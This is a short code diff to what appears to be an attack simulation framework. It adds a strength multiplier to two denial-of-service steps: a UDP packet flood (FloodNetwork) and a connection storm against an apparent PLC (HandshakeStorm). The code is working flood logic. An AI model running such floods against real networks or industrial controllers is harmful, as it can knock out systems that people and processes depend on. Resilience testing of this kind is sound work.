@@ -78,9 +78,10 @@ class FloodNetwork(Step):
         assert isinstance(transport, asyncio.DatagramTransport)
         payload = bytes(self.size)
         begun, sent = loop.time(), 0
-        attack.note(self, "flooding", target=self.target, rate=self.rate, size=self.size)
+        rate = self.rate * attack.strength
+        attack.note(self, "flooding", target=self.target, rate=rate, size=self.size)
         while (passed := loop.time() - begun) < self.lasting:
-            for _ in range(int(passed * self.rate) - sent):
+            for _ in range(int(passed * rate) - sent):
                 transport.sendto(payload)
                 sent += 1
             await asyncio.sleep(BURST)
@@ -150,12 +151,13 @@ class HandshakeStorm(Step):
                 answered = False
             served, lost = served + answered, lost + (not answered)
 
-        attack.note(self, "storming", target=self.plc, rate=self.rate)
+        rate = self.rate * attack.strength
+        attack.note(self, "storming", target=self.plc, rate=rate)
         running: list[asyncio.Task[None]] = []
         while loop.time() < end:
             running = [task for task in running if not task.done()]
             running.append(asyncio.ensure_future(one()))
-            await asyncio.sleep(1 / self.rate)
+            await asyncio.sleep(1 / rate)
         await asyncio.gather(*running)
         attack.note(self, "done" if served > lost else "refused", target=self.plc, served=served, lost=lost)
 
